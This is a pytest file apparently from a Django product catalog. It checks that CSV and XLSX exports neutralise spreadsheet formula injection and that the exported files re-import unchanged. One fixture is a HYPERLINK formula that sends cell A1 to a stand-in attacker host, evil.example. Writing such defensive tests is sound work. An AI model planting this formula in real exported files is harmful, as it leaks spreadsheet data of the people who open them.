"""Spreadsheet formula injection: a product named like a formula is exported as text, never live,
in CSV and XLSX, and the file still imports back unchanged."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from arkaofis.catalog.models import Product
from arkaofis.catalog.services.exporting import export_products
from arkaofis.catalog.services.tables import write_csv, write_xlsx
from arkaofis.catalog.tests.factories import ProductFactory
from arkaofis.catalog.tests.import_support import run_import

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
NAMES = {"P-1": EVIL, "P-2": "-2+3", "P-3": "@SUM(1+1)", "P-4": "+1", "P-5": "\t=1", "P-6": "Plain tea"}


@pytest.fixture
def products():
    for sku, name in NAMES.items():
        ProductFactory(sku=sku, name=name, description="-a dash first" if sku == "P-6" else "")


def test_the_csv_export_quotes_every_cell_a_spreadsheet_would_run(products):
    rows = {row["sku"]: row for row in csv.DictReader(io.StringIO(export_products(fmt="csv").decode("utf-8-sig")))}
    assert rows["P-1"]["name"] == "'" + EVIL
    assert {rows[sku]["name"] for sku in ("P-2", "P-3", "P-4", "P-5")} == {"'-2+3", "'@SUM(1+1)", "'+1", "'\t=1"}
    assert rows["P-6"]["name"] == "Plain tea" and rows["P-6"]["description"] == "'-a dash first"


def test_the_xlsx_export_has_no_formula_cell(products):
    sheet = load_workbook(io.BytesIO(export_products(fmt="xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert names["P-1"] == "'" + EVIL and names["P-2"] == "'-2+3"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_formula_like_names_imports_back_unchanged(products, fmt):
    before = dict(Product.objects.values_list("sku", "name"))
    report = run_import(export_products(fmt=fmt), file_name=f"export.{fmt}")
    assert report.ok, report.errors
    assert report.unchanged == len(NAMES)
    assert dict(Product.objects.values_list("sku", "name")) == before


def test_negative_numbers_stay_numeric_cells_and_text_starting_with_a_dash_is_quoted():
    rows = [["-5", -5, Decimal("-2.50")]]
    assert write_csv(["a", "b", "c"], iter(rows)).decode("utf-8-sig").splitlines()[1] == "'-5,-5,-2.50"
    sheet = load_workbook(io.BytesIO(write_xlsx(["a", "b", "c"], iter(rows), text_columns=()))).active
    text, number, amount = next(sheet.iter_rows(min_row=2))
    assert (text.value, text.data_type) == ("'-5", "s")
    assert (number.value, number.data_type) == (-5, "n") and amount.data_type == "n"
